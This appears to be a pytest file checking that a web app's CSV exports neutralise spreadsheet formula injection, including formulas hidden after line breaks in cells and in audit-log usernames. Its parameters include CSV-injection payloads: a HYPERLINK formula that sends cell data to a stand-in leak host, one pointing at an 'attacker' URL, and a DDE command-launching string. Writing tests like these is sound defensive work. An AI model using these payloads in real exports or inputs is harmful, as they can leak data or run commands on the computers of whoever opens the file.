"""CSV injection: every CSV the app writes neutralises cells a spreadsheet would run
(OWASP's CSV Injection rule), and leaves numbers as numbers."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest

from ablt_core import UsageTotals
from tests.pg import store_on
from webapp.audit import AuditLog
from webapp.audit.log import CSV_COLUMNS
from webapp.audit.view import audit_csv
from webapp.auth import passwords
from webapp.auth.throttle import authenticate
from webapp.auth.throttle_store import LoginLog
from webapp.statistics import usage
from webapp.team import Team
from webapp.text import csv_safe

LEAK = '=HYPERLINK("http://host/leak?x="&A1, "x")'


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (LEAK, "'" + LEAK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        # A leading CR is a trigger, and so is the formula on the line after it.
        ("\r=1+1", "'\n'=1+1"),
        ("Ann Lee (ann)", "Ann Lee (ann)"),
        ("a=b", "a=b"),  # only a leading trigger counts
        ("", ""),
    ],
)
def test_a_text_cell_starting_with_a_trigger_gets_a_leading_quote(cell: str, written: str) -> None:
    assert csv_safe.neutralise_cell(cell) == written


@pytest.mark.parametrize("number", [-5, -0.5, 0, 7, 3.25])
def test_numbers_stay_numbers_even_when_negative(number: float) -> None:
    assert csv_safe.neutralise_cell(number) == number


def totals(words: int) -> UsageTotals:
    return UsageTotals.model_validate(
        {
            "original_tokens": 0,
            "enchancement_tokens": 0,
            "response_tokens": 0,
            "total_tokens": 0,
            "original_words": words,
            "enchancement_words": 0,
            "response_words": 0,
            "total_words": words,
        }
    )


def test_the_per_member_csv_neutralises_a_member_named_as_a_formula() -> None:
    frame = usage.breakdown_frame(
        [usage.MemberUsage(f"{LEAK} (mallory)", totals(10)), usage.MemberUsage("Ann", totals(5))],
        "words",
    )
    written = rows(usage.csv_bytes(frame))
    assert written[0] == ["member", "original", "enhancement", "response", "total"]
    assert written[1][0] == "'" + LEAK + " (mallory)"
    assert written[1][1:] == ["10", "0", "0", "10"]  # numbers as written, no quote
    assert written[2][0] == "Ann"


def test_the_table_on_screen_is_neutralised_too_and_keeps_its_number_types() -> None:
    # st.dataframe's own toolbar writes a CSV of what it shows.
    frame = pd.DataFrame({"member": [LEAK, "Bob"], "total": [3, -4]})
    safe = csv_safe.safe_frame(frame)
    assert list(safe["member"]) == ["'" + LEAK, "Bob"]
    assert list(safe["total"]) == [3, -4] and safe["total"].dtype == frame["total"].dtype
    assert list(frame["member"]) == [LEAK, "Bob"]  # the original is left as it was


def test_the_daily_csv_keeps_iso_dates_and_integers() -> None:
    day = dt.date(2026, 11, 20)
    frame = usage.daily_frame(
        usage.UsageStatistics.model_validate(
            {
                "total": totals(0).model_dump(),
                "items": [{**totals(4).model_dump(), "date": "2026-11-20"}],
            }
        ),
        day,
        day,
        "words",
    )
    assert rows(usage.csv_bytes(frame))[1] == ["2026-11-20", "4", "0", "0", "4"]


def test_a_column_name_is_neutralised_as_well() -> None:
    frame = pd.DataFrame({"=cmd": [1]})
    assert rows(csv_safe.csv_bytes(frame))[0] == ["'=cmd"]


# -- line breaks inside a cell (issue 28, item 4) -------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t")
HYPERLINK = 'x\r=HYPERLINK("http://attacker/","click")'
ADDRESS = "203.0.113.9"


def formula_lines(data: bytes) -> list[str]:
    """Every line, in every cell of every row, and every raw line of the file,
    that starts with a formula trigger (none may)."""
    text = data.decode("utf-8")
    cells = [cell for row in rows(data) for cell in row]
    lines = [line for cell in cells for line in cell.splitlines()]
    # A reader that ignores quotes and splits the file at every CR and LF.
    lines += [line.lstrip('"') for line in text.splitlines()]
    return [line for line in lines if line.startswith(TRIGGERS)]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("ok\r=HYPERLINK(1)", "ok\n'=HYPERLINK(1)"),
        ("a\n+cmd", "a\n'+cmd"),
        ("a\r\n-2+3", "a\n'-2+3"),
        ("a\r\r@SUM(A1)", "a\n\n'@SUM(A1)"),
        ("a\n\t=1", "a\n'\t=1"),
        ("=1\n=2\r=3", "'=1\n'=2\n'=3"),
        ("\n=1", "'\n'=1"),
        ("two\r\nlines", "two\nlines"),  # no formula: only the break is made plain
        ("a\n b=c", "a\n b=c"),
    ],
)
def test_a_formula_after_any_line_break_gets_its_own_quote(cell: str, written: str) -> None:
    assert csv_safe.neutralise_cell(cell) == written


@pytest.mark.parametrize(
    "cell",
    [
        "x\r=HYPERLINK(1)",  # no quote or comma: pandas wrote it bare
        HYPERLINK,
        "a\n+cmd",
        "a\r\n-cmd",
        "a\r\r\n\n@cmd",
        "plain\rtext",
    ],
)
def test_a_cell_with_line_breaks_stays_one_cell_of_one_row_with_no_formula(cell: str) -> None:
    frame = pd.DataFrame({"who": [cell, "ann"], "words": [1, 2]})
    data = csv_safe.csv_bytes(frame)
    parsed = rows(data)
    assert len(parsed) == 3, parsed  # the header and two rows, whatever the cell holds
    assert [row[1] for row in parsed] == ["words", "1", "2"]
    assert parsed[2][0] == "ann"
    assert formula_lines(data) == []


def test_the_on_screen_rows_hold_no_bare_carriage_return() -> None:
    # st.dataframe's toolbar quotes a cell with "\n" but not one with a bare "\r".
    shown = csv_safe.safe_rows([{"who": "x\r=HYPERLINK(1)", "n": -3}])
    assert shown == [{"who": "x\n'=HYPERLINK(1)", "n": -3}]
    frame = csv_safe.safe_frame(pd.DataFrame({"who": ["a\r+b"], "n": [1]}))
    assert list(frame["who"]) == ["a\n'+b"]


def test_a_failed_login_named_as_a_formula_after_a_carriage_return_is_neutralised_in_the_audit_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack as reported: a page script submits the login form with this
    username; the audit log's CSV must keep it in its row, with no formula."""
    monkeypatch.setattr(passwords, "BCRYPT_ROUNDS", 4)
    with store_on("sqlite", tmp_path, "csv") as store:
        team = Team(tmp_path / "auth.yaml", {"credentials": {"usernames": {}}})
        team.add("ann", name="Ann", email="ann@example.com", password="ann-right-password")
        logins = LoginLog(store.engine)
        for typed in (HYPERLINK, "x\r=HYPERLINK(1)", "y\n+cmd"):
            assert (
                authenticate(team, typed, "a wrong password", "203.0.113.9", logins).member is None
            )
        assert authenticate(team, "ann", "ann-right-password", "203.0.113.9", logins).member
        data = audit_csv(AuditLog(store.engine).entries())
    parsed = rows(data)
    assert len(parsed) == 1 + 4, parsed  # the header, three failed logins, one login
    assert all(len(row) == len(CSV_COLUMNS) for row in parsed)
    assert formula_lines(data) == []
    who = [row[2] for row in parsed[1:]]
    assert who[-1] == 'x\n\'=hyperlink("http://attacker/","click")'  # oldest last
    assert who[0] == "ann"


# -- every CSV writer goes through csv_safe -------------------------------------------------

ROOT = Path(__file__).resolve().parents[3]
SAFE_CALLS = {"safe_rows", "safe_frame"}


def _sources() -> list[Path]:
    return sorted([*(ROOT / "webapp").rglob("*.py"), *(ROOT / "views").glob("*.py")])


def _called_name(node: ast.expr) -> str:
    if isinstance(node, ast.Call):
        func = node.func
        return func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
    return ""


def test_every_table_on_screen_is_neutralised_as_its_toolbar_writes_a_csv() -> None:
    unsafe = []
    for path in _sources():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in ("dataframe", "data_editor", "table")
            ):
                continue
            data = (
                node.args[0]
                if node.args
                else next((k.value for k in node.keywords if k.arg == "data"), None)
            )
            if data is None or _called_name(data) not in SAFE_CALLS:
                unsafe.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert unsafe == [], "tables drawn without csv_safe.safe_rows / safe_frame"


def test_only_csv_safe_writes_csv_text() -> None:
    writers = []
    for path in _sources():
        if path.name == "csv_safe.py":
            continue
        text = path.read_text(encoding="utf-8")
        for needle in (".to_csv(", "csv.writer(", "csv.DictWriter("):
            if needle in text:
                writers.append(f"{path.relative_to(ROOT)}: {needle}")
    assert writers == []
